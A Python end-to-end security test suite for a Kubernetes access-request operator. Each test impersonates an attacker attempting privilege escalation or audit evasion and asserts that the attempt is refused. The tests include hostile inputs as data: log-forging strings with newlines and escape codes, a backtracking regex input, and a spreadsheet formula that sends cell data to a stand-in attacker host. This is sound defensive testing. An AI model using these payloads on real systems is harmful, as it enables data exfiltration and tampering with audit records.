"""Security round 2 (issue 11): escalation and expiry-evasion paths, each run as the attacker.

Every test impersonates the attacker on the real control plane, asserts the refusal message,
and asserts that nothing changed: no binding, no access per ``kubectl auth can-i``, status and
audit intact. docs/threats.md names the property that defeats each.
"""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from typing import Any

from tests.e2e import pim
from tests.e2e.support import Kubectl, OperatorProcess, poll

_RBAC = "rbac.authorization.k8s.io"


def _refused(result: subprocess.CompletedProcess[str], *messages: str) -> None:
    assert result.returncode != 0, f"not refused: {result.stdout}"
    for message in messages:
        assert message in result.stderr, result.stderr


def _absent(kubectl: Kubectl, kind: str, name: str, *namespace: str) -> bool:
    args = ["-n", namespace[0]] if namespace else []
    return "NotFound" in kubectl("get", kind, name, *args, check=False).stderr


def _create(kubectl: Kubectl, manifest: dict[str, Any], **identity: Any
            ) -> subprocess.CompletedProcess[str]:
    return kubectl("create", "-f", "-", stdin=json.dumps(manifest), check=False, **identity)


def _request(name: str, namespace: str, **spec: Any) -> dict[str, Any]:
    return pim.access_request(name, **{"role": {"kind": "Role", "name": "pod-reader"},
                                       "namespace": namespace, "duration": "5m",
                                       "justification": "testing", **spec})


def _grant(kubectl: Kubectl, name: str, namespace: str, requester: str = "alice",
           **spec: Any) -> dict[str, Any]:
    pim.apply(kubectl, _request(name, namespace, **spec), as_user=requester)
    pim.wait_phase(kubectl, name, "Pending")
    pim.approve(kubectl, name, "bob")
    return pim.wait_phase(kubectl, name, "Active")


# 1. A namespaceSelector reaches every namespace it can ever match.

def test_a_namespace_selector_needs_cluster_wide_bind_rights_and_privileged_roles_are_refused(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    other = f"{namespace}-b"
    kubectl("create", "namespace", other)
    try:
        # lead may write eligibilities and bind pod-reader, but only in their own namespace.
        kubectl("create", "clusterrole", f"{namespace}-elig", "--verb=create,update,get",
                "--resource=roleeligibilities.pim.kubepim.dev")
        kubectl("create", "clusterrolebinding", f"{namespace}-elig",
                f"--clusterrole={namespace}-elig", "--user=lead")
        kubectl("create", "role", "binder", "--verb=bind", "--resource=roles",
                "--resource-name=pod-reader", "-n", namespace)
        kubectl("create", "rolebinding", "lead-binder", "--role=binder", "--user=lead",
                "-n", namespace)
        reach = {"matchExpressions": [{"key": "kubernetes.io/metadata.name", "operator": "In",
                                       "values": [other, "kube-system"]}]}
        grab = pim.eligibility(namespace, subjects=[{"kind": "User", "name": "mallory"}],
                               roles=[{"kind": "Role", "name": "pod-reader"}],
                               namespaceSelector=reach, approval={"users": ["lead"]})
        _refused(_create(kubectl, grab, as_user="lead"),
                 "lead may not make Role/pod-reader eligible in the namespaces a "
                 "namespaceSelector can match: that needs the right to bind it cluster-wide")
        assert _absent(kubectl, "roleeligibility", namespace)

        # An admin's eligibility by selector: a Role of that name made later in one matched
        # namespace, granting everything, is on the deny-list there.
        pim.apply(kubectl, pim.eligibility(
            namespace, subjects=[{"kind": "User", "name": "mallory"}],
            roles=[{"kind": "Role", "name": "pod-reader"}], namespaceSelector=reach,
            approval={"users": ["lead"]}))
        kubectl("create", "role", "pod-reader", "--verb=*", "--resource=*", "-n", other)
        poll(lambda: _ready(kubectl, namespace) == ("False", "PrivilegedRole"), timeout=10,
             what="the eligibility not Ready: a role it reaches became privileged")
        result = _create(kubectl, _request(namespace, other), as_user="mallory")
        _refused(result, "Role/pod-reader grants the verb(s) * in namespace " + other,
                 "on the deny-list")
        assert _absent(kubectl, "accessrequest", namespace)
        assert kubectl.can_i("*", "*", as_user="mallory", namespace=other) is False
    finally:
        for kind, name in (("clusterrolebinding", f"{namespace}-elig"),
                           ("clusterrole", f"{namespace}-elig"), ("namespace", other)):
            kubectl("delete", kind, name, "--ignore-not-found", "--wait=false", check=False)


# 2 and 9. Finalizers and ownerReferences are the operator's business, not the requester's.

def test_a_request_with_finalizers_or_owner_references_is_refused_at_admission(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    pim.pod_reader_for_alice(kubectl, namespace, breakGlass={"maxDuration": "1m"})
    orphaning = _request(namespace, namespace, breakGlass=True, duration="1m")
    orphaning["metadata"]["finalizers"] = ["orphan"]
    orphaning["metadata"]["ownerReferences"] = [{
        "apiVersion": "v1", "kind": "ConfigMap", "name": "gone",
        "uid": "00000000-0000-0000-0000-000000000000"}]
    _refused(_create(kubectl, orphaning, as_user="alice"),
             "metadata.finalizers and metadata.ownerReferences of an AccessRequest must be "
             "empty")
    keep = _request(namespace, namespace)
    keep["metadata"]["finalizers"] = ["example.com/keep-forever"]
    _refused(_create(kubectl, keep, as_user="alice"), "metadata.finalizers")
    assert _absent(kubectl, "accessrequest", namespace)
    assert kubectl.can_i("list", "pods", as_user="alice", namespace=namespace) is False


def test_an_active_request_deleted_with_orphaning_loses_its_binding_at_once_with_a_record(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    pim.pod_reader_for_alice(kubectl, namespace)
    active = _grant(kubectl, namespace, namespace)
    uid = active["metadata"]["uid"]
    kubectl("delete", "accessrequest", namespace, "--cascade=orphan", "--wait=false")
    # The garbage collector strips the binding's ownerReference, then lets the request go.
    poll(lambda: _absent(kubectl, "accessrequest", namespace), timeout=60,
         what="the request deleted")
    poll(lambda: not kubectl.can_i("list", "pods", as_user="alice", namespace=namespace),
         timeout=2, what="alice's access gone with her deleted request")
    assert _absent(kubectl, "rolebinding", f"kubepim-{namespace}", namespace)

    def final_line() -> dict[str, Any] | None:
        for line in operator.log().splitlines():
            start = line.find("{")
            if start >= 0 and f'"id": "{uid}/deleted"' in line:
                record: dict[str, Any] = json.loads(line[start:])
                return record
        return None

    record = poll(final_line, timeout=3, what="the Deleted audit line")
    assert record["action"] == "Deleted"
    assert record["phase"] == "Active"
    assert "its binding" in record["reason"]  # removed by this line's handler or just before
    assert [h["action"] for h in record["history"]] == ["Requested", "Approved", "Activated"]


# 3 and 7. Free text cannot forge a log line, an Event or a history entry.

_FAKE = json.dumps({"action": "Approved", "actor": "security-lead", "phase": "Active",
                    "role": "ClusterRole/cluster-admin", "request": "forged"})


def test_a_newline_in_any_free_text_field_is_refused_and_no_log_line_is_forged(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    pim.pod_reader_for_alice(kubectl, namespace, approval={"users": ["bob", "carol"],
                                                           "required": 2})
    for field in ("eligibility", "ticket", "justification"):
        forged = _request(namespace, namespace, **{field: f"x\n{_FAKE}"})
        result = _create(kubectl, forged, as_user="mallory")
        _refused(result, f"spec.{field}", "must not contain control characters")
    assert _absent(kubectl, "accessrequest", namespace)

    pim.apply(kubectl, _request(namespace, namespace), as_user="alice")
    pim.wait_phase(kubectl, namespace, "Pending")
    before = pim.get_request(kubectl, namespace)["status"]
    spoof = "ok\nAction: Reviewed\nActor: security-lead\x1b[2K"
    _refused(pim.act(kubectl, namespace, "alice", "Withdraw", reason=spoof, check=False),
             "must not contain control characters")
    _refused(pim.approve(kubectl, namespace, "bob", comment=spoof, check=False),
             "must not contain control characters")
    assert pim.get_request(kubectl, namespace)["status"] == before
    for line in operator.log().splitlines():
        assert not line.startswith("{") and "security-lead" not in line, line


# 4. Ticket patterns run on a linear-time engine.

def test_a_backtracking_ticket_pattern_cannot_freeze_the_operator(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    lookahead = pim.eligibility(
        namespace, subjects=[{"kind": "User", "name": "alice"}],
        roles=[{"kind": "Role", "name": "pod-reader"}], namespaces=[namespace],
        approval={"users": ["bob"]}, justification={"ticketPattern": "INC-(?=1)\\d+"})
    kubectl("create", "role", "pod-reader", "--verb=get,list", "--resource=pods", "-n",
            namespace)
    _refused(_create(kubectl, lookahead), "spec.justification.ticketPattern",
             "not a valid RE2 regular expression")
    pim.apply(kubectl, pim.eligibility(
        namespace, subjects=[{"kind": "User", "name": "alice"}],
        roles=[{"kind": "Role", "name": "pod-reader"}], namespaces=[namespace],
        approval={"users": ["bob"]}, justification={"ticketPattern": "INC-(\\d+,?)+"}))
    evil = _request(namespace, namespace, ticket="INC-" + "1" * 40 + "x")
    _refused(_create(kubectl, evil, as_user="alice", timeout=20),
             "requires spec.ticket matching INC-(\\d+,?)+")
    # The operator still answers at once: the next, valid request is admitted and granted.
    _grant(kubectl, namespace, namespace, ticket="INC-1,2")
    assert kubectl.can_i("list", "pods", as_user="alice", namespace=namespace) is True


# 5. Open requests per requester and object size are bounded.

def test_open_requests_per_requester_and_request_size_are_bounded(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    pim.pod_reader_for_alice(kubectl, namespace, subjects=[{"kind": "User", "name": "flooder"}])
    huge = _request(f"{namespace}-huge", namespace)
    huge["metadata"]["annotations"] = {"padding": "x" * 100_000}
    _refused(_create(kubectl, huge, as_user="flooder"),
             "bytes; an AccessRequest may be at most 32768 bytes")
    assert _absent(kubectl, "accessrequest", f"{namespace}-huge")
    limit = 20
    for index in range(limit):
        result = _create(kubectl, _request(f"{namespace}-{index}", namespace), as_user="flooder")
        assert result.returncode == 0, result.stderr
    over = _create(kubectl, _request(f"{namespace}-{limit}", namespace), as_user="flooder")
    _refused(over, f"flooder has {limit} open requests (Pending or Active); at most {limit} "
             "are allowed")
    assert _absent(kubectl, "accessrequest", f"{namespace}-{limit}")
    # Withdrawing one frees a place.
    pim.wait_phase(kubectl, f"{namespace}-0", "Pending")
    pim.act(kubectl, f"{namespace}-0", "flooder", "Withdraw")
    pim.wait_phase(kubectl, f"{namespace}-0", "Withdrawn")
    poll(lambda: _create(kubectl, _request(f"{namespace}-{limit}", namespace),
                         as_user="flooder").returncode == 0,
         timeout=5, what="a place freed by the withdrawal")


def test_a_burst_of_concurrent_creates_cannot_pass_the_open_request_limit(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    pim.pod_reader_for_alice(kubectl, namespace, subjects=[{"kind": "User", "name": "burster"}])
    names = [f"{namespace}-{index}" for index in range(30)]
    with ThreadPoolExecutor(max_workers=10) as pool:
        results = list(pool.map(
            lambda name: _create(kubectl, _request(name, namespace), as_user="burster"), names))
    refused = [r for r in results if r.returncode != 0]
    assert all("at most 20 are allowed" in r.stderr for r in refused), refused
    created = [n for n, r in zip(names, results, strict=True) if r.returncode == 0]

    def phases() -> list[str] | None:
        found = [pim.phase_of(kubectl, name) for name in created]
        return None if None in found else [str(phase) for phase in found]

    settled = poll(phases, timeout=15, what="every admitted request decided")
    assert sum(phase in ("Pending", "Active") for phase in settled) <= 20, settled
    assert len(created) <= 20 or "Rejected" in settled


# 6. Events cannot be pre-claimed.

def test_pre_posted_events_do_not_suppress_the_real_ones(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    pim.pod_reader_for_alice(kubectl, namespace)
    kubectl("create", "role", f"{namespace}-events", "--verb=create", "--resource=events",
            "-n", "default")
    kubectl("create", "rolebinding", f"{namespace}-events", f"--role={namespace}-events",
            "--user=mallory", "-n", "default")
    try:
        pim.apply(kubectl, _request(namespace, namespace), as_user="alice")
        pending = pim.wait_phase(kubectl, namespace, "Pending")
        uid = pending["metadata"]["uid"]
        for index, reason in ((1, "Approved"), (2, "Activated")):
            fake = {"apiVersion": "v1", "kind": "Event",
                    "metadata": {"name": f"{namespace}.{uid[:8]}.{index:06d}",
                                 "namespace": "default"},
                    "involvedObject": {"apiVersion": pim.API_VERSION, "kind": "AccessRequest",
                                       "name": namespace, "uid": uid},
                    "type": "Normal", "reason": reason,
                    "message": f"{reason.lower()} by security-lead", "source": {
                        "component": "kubepim"}}
            assert _create(kubectl, fake, as_user="mallory").returncode == 0
        pim.approve(kubectl, namespace, "bob")
        pim.wait_phase(kubectl, namespace, "Active")

        def messages() -> list[str] | None:
            events = kubectl.json("get", "events", "-n", "default", "--field-selector",
                                  f"involvedObject.uid={uid}")["items"]
            found = [e["message"] for e in events]
            return found if any(m.startswith("approved by bob") for m in found) else None

        found = poll(messages, timeout=5, what="the real Approved Event")
        assert any(m.startswith("granted Role/pod-reader") for m in found), found
    finally:
        kubectl("delete", "rolebinding", f"{namespace}-events", "-n", "default", check=False)
        kubectl("delete", "role", f"{namespace}-events", "-n", "default", check=False)


# 8. Binding names cannot collide with a foreign binding or another request.

def test_a_request_named_after_a_foreign_binding_never_replaces_it(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    pim.pod_reader_for_alice(kubectl, namespace, breakGlass={"maxDuration": "5m"})
    name = f"{namespace}-oncall"
    kubectl("create", "rolebinding", f"kubepim-{name}", "--role=pod-reader", "--group=oncall",
            "-n", namespace)
    result = _create(kubectl, _request(name, namespace, breakGlass=True), as_user="alice")
    _refused(result, f"RoleBinding kubepim-{name} already exists in namespace {namespace} and "
             "was not made by kubepim")
    # Made after the request was admitted: the grant waits and says why, the binding stays.
    later = f"{namespace}-later"
    pim.apply(kubectl, _request(later, namespace), as_user="alice")
    pim.wait_phase(kubectl, later, "Pending")
    kubectl("create", "rolebinding", f"kubepim-{later}", "--role=pod-reader", "--group=oncall",
            "-n", namespace)
    pim.approve(kubectl, later, "bob")
    poll(lambda: "was not made by kubepim" in
         (pim.get_request(kubectl, later).get("status") or {}).get("message", ""),
         timeout=5, what="the grant refused with a message")
    assert pim.phase_of(kubectl, later) == "Pending"
    for binding in (name, later):
        kept = kubectl.json("get", "rolebinding", f"kubepim-{binding}", "-n", namespace)
        assert kept["subjects"] == [{"apiGroup": _RBAC, "kind": "Group", "name": "oncall"}]
    assert kubectl.can_i("list", "pods", as_user="alice", namespace=namespace) is False
    assert kubectl.can_i("list", "pods", as_user="x", groups=["oncall"], namespace=namespace)


def test_a_request_name_too_long_for_its_binding_name_is_refused(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    pim.pod_reader_for_alice(kubectl, namespace)
    long = (namespace + "-" + "a" * 250)[:246]
    _refused(_create(kubectl, _request(long, namespace), as_user="alice"),
             "the name of an AccessRequest may be at most 245 characters")
    assert _absent(kubectl, "accessrequest", long)


# 10. Break-glass cannot be chained; a role that becomes privileged stops being grantable.

def test_a_second_unreviewed_break_glass_grant_is_refused(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    pim.pod_reader_for_alice(kubectl, namespace, breakGlass={"maxDuration": "5m"})
    first = pim.access_request(namespace, role={"kind": "Role", "name": "pod-reader"},
                               namespace=namespace, breakGlass=True, justification="INC-1 fire")
    pim.apply(kubectl, first, as_user="alice")
    pim.wait_phase(kubectl, namespace, "Active")
    second = pim.access_request(f"{namespace}-2", role={"kind": "Role", "name": "pod-reader"},
                                namespace=namespace, breakGlass=True, justification="again")
    _refused(_create(kubectl, second, as_user="alice"),
             "alice has 1 break-glass grant(s) not yet reviewed; at most 1 is allowed")
    assert _absent(kubectl, "accessrequest", f"{namespace}-2")
    pim.approve(kubectl, namespace, "bob", decision="Acknowledge")
    poll(lambda: not pim.get_request(kubectl, namespace)["status"].get("reviewRequired"),
         timeout=5, what="the first break-glass grant reviewed")
    poll(lambda: _create(kubectl, second, as_user="alice").returncode == 0, timeout=5,
         what="a second break-glass grant once the first is reviewed")


def test_a_cluster_role_that_aggregates_privilege_later_stops_being_grantable(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    role = "kubepim-e2e-aggregated"  # one of the dev values' bindableRoles
    label = f"kubepim-e2e/{namespace[-6:]}"
    aggregated = {"apiVersion": f"{_RBAC}/v1", "kind": "ClusterRole",
                  "metadata": {"name": role},
                  "aggregationRule": {"clusterRoleSelectors": [{"matchLabels": {label: "true"}}]},
                  "rules": []}
    kubectl("apply", "-f", "-", stdin=json.dumps(aggregated))
    piece = f"{namespace}-piece"
    try:
        pim.apply(kubectl, pim.eligibility(
            namespace, subjects=[{"kind": "User", "name": "alice"}],
            roles=[{"kind": "ClusterRole", "name": role}], namespaces=[namespace],
            approval={"users": ["bob"]}))
        poll(lambda: _ready(kubectl, namespace) == ("True", "Valid"), timeout=10,
             what="the eligibility Ready")
        pending = _request(namespace, namespace, role={"kind": "ClusterRole", "name": role})
        pim.apply(kubectl, pending, as_user="alice")
        pim.wait_phase(kubectl, namespace, "Pending")

        everything = {"apiVersion": f"{_RBAC}/v1", "kind": "ClusterRole",
                      "metadata": {"name": piece, "labels": {label: "true"}},
                      "rules": [{"apiGroups": ["*"], "resources": ["*"],
                                 "verbs": ["*", "bind", "escalate"]}]}
        kubectl("apply", "-f", "-", stdin=json.dumps(everything))
        denied = pim.wait_phase(kubectl, namespace, "Denied", timeout=15)
        assert "on the deny-list" in denied["status"]["message"]
        poll(lambda: _ready(kubectl, namespace) == ("False", "PrivilegedRole"), timeout=10,
             what="the eligibility not Ready")
        again = _request(f"{namespace}-2", namespace, role={"kind": "ClusterRole", "name": role})
        _refused(_create(kubectl, again, as_user="alice"), f"ClusterRole/{role} grants",
                 "on the deny-list")
        assert kubectl.can_i("*", "*", as_user="alice", namespace=namespace) is False
        assert kubectl("get", "rolebindings", "-n", namespace, "-o", "name").stdout == ""
    finally:
        kubectl("delete", "clusterrole", piece, role, "--ignore-not-found", check=False)


def _ready(kubectl: Kubectl, name: str) -> tuple[str, str] | None:
    body = kubectl.json("get", "roleeligibility", name)
    for condition in (body.get("status") or {}).get("conditions") or []:
        if condition["type"] == "Ready":
            return condition["status"], condition["reason"]
    return None


# 11. The compliance export cannot carry a spreadsheet formula.

def test_formulas_in_free_text_are_neutralised_in_the_csv_export(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    pim.pod_reader_for_alice(kubectl, namespace)
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    _grant(kubectl, namespace, namespace, justification=formula, ticket="@SUM(1+1)")
    exported = subprocess.run(
        [sys.executable, "-m", "kubepim.export", f"--kubeconfig={kubectl.kubeconfig}"],
        capture_output=True, text=True, check=True, timeout=60)
    rows = [r for r in csv.DictReader(io.StringIO(exported.stdout)) if r["request"] == namespace]
    assert len(rows) == 1
    assert rows[0]["justification"] == "'" + formula
    assert rows[0]["ticket"] == "'@SUM(1+1)"


# 12. An approval by an identity the requester can act as does not count.

def test_approving_as_a_service_account_whose_token_the_requester_can_mint_is_refused(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    bot = f"system:serviceaccount:{namespace}:approver-bot"
    kubectl("create", "serviceaccount", "approver-bot", "-n", namespace)
    kubectl("create", "role", "token-minter", "--verb=create", "--resource=serviceaccounts/token",
            "-n", namespace)
    kubectl("create", "rolebinding", "alice-token-minter", "--role=token-minter", "--user=alice",
            "-n", namespace)
    pim.pod_reader_for_alice(kubectl, namespace, approval={"users": [bot, "bob"]})
    pim.apply(kubectl, _request(namespace, namespace), as_user="alice")
    pim.wait_phase(kubectl, namespace, "Pending")
    result = pim.approve(kubectl, namespace, bot, check=False,
                         groups=("system:serviceaccounts", f"system:serviceaccounts:{namespace}"))
    _refused(result, f"the requester alice can act as {bot}",
             f"create serviceaccounts/token for approver-bot in namespace {namespace}")
    assert pim.get_request(kubectl, namespace)["status"].get("approvals", {}) == {}
    assert kubectl.can_i("list", "pods", as_user="alice", namespace=namespace) is False


def test_approving_as_a_user_the_requester_may_impersonate_is_refused(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    kubectl("create", "clusterrole", f"{namespace}-imp", "--verb=impersonate",
            "--resource=users", "--resource-name=bob")
    kubectl("create", "clusterrolebinding", f"{namespace}-imp", f"--clusterrole={namespace}-imp",
            "--user=alice")
    try:
        pim.pod_reader_for_alice(kubectl, namespace)
        pim.apply(kubectl, _request(namespace, namespace), as_user="alice")
        pim.wait_phase(kubectl, namespace, "Pending")
        _refused(pim.approve(kubectl, namespace, "bob", check=False),
                 "the requester alice can act as bob", "impersonate users bob")
        assert pim.get_request(kubectl, namespace)["status"].get("approvals", {}) == {}
    finally:
        kubectl("delete", "clusterrolebinding", f"{namespace}-imp", check=False)
        kubectl("delete", "clusterrole", f"{namespace}-imp", check=False)


# 13. One person under another spelling is still one person.

def test_approving_under_a_case_variant_of_the_requesters_name_is_refused(
    kubectl: Kubectl, operator: OperatorProcess, namespace: str
) -> None:
    pim.pod_reader_for_alice(kubectl, namespace, approval={"users": ["Alice", "bob"]})
    pim.apply(kubectl, _request(namespace, namespace), as_user="alice")
    pim.wait_phase(kubectl, namespace, "Pending")
    _refused(pim.approve(kubectl, namespace, "Alice", check=False),
             "Alice cannot decide on the request of alice: usernames are compared "
             "case-insensitively")
    assert pim.get_request(kubectl, namespace)["status"].get("approvals", {}) == {}
    assert kubectl.can_i("list", "pods", as_user="alice", namespace=namespace) is False
